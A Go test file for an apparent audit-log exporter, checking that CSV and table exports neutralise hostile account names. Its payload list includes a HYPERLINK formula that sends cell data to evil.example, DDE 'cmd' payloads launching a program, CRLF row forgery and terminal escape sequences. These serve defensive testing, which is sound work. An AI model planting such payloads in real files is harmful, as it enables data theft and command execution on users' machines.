package audit_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/accountwatch/accountwatch/pkg/audit"
	"github.com/accountwatch/accountwatch/pkg/event"
	"github.com/accountwatch/accountwatch/pkg/event/eventtest"
	"github.com/accountwatch/accountwatch/pkg/eventbus/bustest"
)

// hostileNames are account names an upstream could send.
var hostileNames = []string{
	`=HYPERLINK("https://evil.example/?leak="&A1,"Click")`,
	"+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
	"  =1+1",
	"Acme\r\n999\t2026-01-01 00:00:00\tforged\trow",
	"\x1b[2J\x1b[31mAcme\x1b]0;pwned\a",
	"Acme\u202eCLL gnitsoH",
}

func TestExportsNeutraliseNames(t *testing.T) {
	b := bustest.New(t)
	for i, name := range hostileNames {
		m := eventtest.Meta("10"+string(rune('0'+i)), nil)
		m.AccountName = name
		publish(t, b, chainOf(t, m))
	}
	export := func(format string) string {
		var buf bytes.Buffer
		w, _ := audit.NewWriter(format, &buf)
		if err := audit.Replay(context.Background(), b.JS, audit.Selection{}, nil, w.Write); err != nil {
			t.Fatal(err)
		}
		w.Close()
		return buf.String()
	}
	rows, err := csv.NewReader(strings.NewReader(export(audit.FormatCSV))).ReadAll()
	if err != nil || len(rows) != len(hostileNames)+1 {
		t.Fatalf("csv: %v, %d rows", err, len(rows))
	}
	for i, row := range rows[1:] {
		cell := row[8] // account_name
		if t0 := strings.TrimLeft(cell, " "); t0 != "" && strings.ContainsRune("=+-@\t\r", rune(t0[0])) {
			t.Errorf("csv cell %q starts a formula", cell)
		}
		want := "'" + hostileNames[i] // a formula, behind a single quote
		if i >= 7 {
			want = strings.ReplaceAll(hostileNames[i], "\r\n", "\n") // no formula: kept as it is (encoding/csv reads a quoted CRLF as LF)
		}
		if cell != want {
			t.Errorf("csv cell %q, want %q", cell, want)
		}
	}
	table := export(audit.FormatTable)
	lines := strings.Split(strings.TrimSuffix(table, "\n"), "\n")
	if len(lines) != len(hostileNames)+1 {
		t.Errorf("the table has %d lines for %d events (a name forged rows):\n%s", len(lines)-1, len(hostileNames), table)
	}
	if strings.ContainsAny(table, "\x1b\r\a\u202e") {
		t.Errorf("the table holds control characters: %q", table)
	}
	if !strings.Contains(table, `Acme\r\n999\t2026-01-01`) || !strings.Contains(table, `\x1b[2J`) {
		t.Errorf("the names are not shown escaped:\n%s", table)
	}
}

func TestCSVCell(t *testing.T) {
	for in, want := range map[string]string{
		"Acme": "Acme", "": "", "-12.50": "-12.50", "+3": "+3", "512.4": "512.4", "1-2": "1-2",
		"=1+1": "'=1+1", "-1+1": "'-1+1", "@x": "'@x", "\tx": "'\tx", "\rx": "'\rx", "\nx": "'\nx", " =x": "' =x", "-": "'-", "-.5": "'-.5",
	} {
		if got := audit.CSVCell(in); got != want {
			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// chainOf is one status change of m's account.
func chainOf(t *testing.T, m event.Meta) []*event.Event {
	return []*event.Event{eventtest.Status(t, m, "active", "credit_hold")}
}
